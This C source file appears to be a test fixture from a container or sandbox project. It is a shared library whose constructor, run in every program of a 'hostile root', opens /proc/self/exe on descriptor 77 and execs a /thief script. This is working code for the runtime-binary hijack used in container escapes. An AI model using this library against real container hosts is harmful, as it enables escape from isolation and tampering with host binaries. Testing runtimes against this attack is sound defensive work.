/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * exe_thief.so - a library that the dynamic loader of a hostile root loads into every program.
 *
 * Before main() it executes /thief, with descriptor 77 open on the file of the program that the
 * process executed until then.
 */
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

#define STOLEN_FD 77

__attribute__((constructor)) static void steal(void)
{
	int fd;

	if (getenv("STOLEN") != NULL)
		return;
	fd = open("/proc/self/exe", O_PATH | O_CLOEXEC);
	if (fd < 0 || dup2(fd, STOLEN_FD) < 0 || setenv("STOLEN", "1", 1) < 0)
		_exit(EXIT_FAILURE);
	(void)execl("/usr/bin/sh", "sh", "/thief", (char *)NULL);
	_exit(EXIT_FAILURE);
}
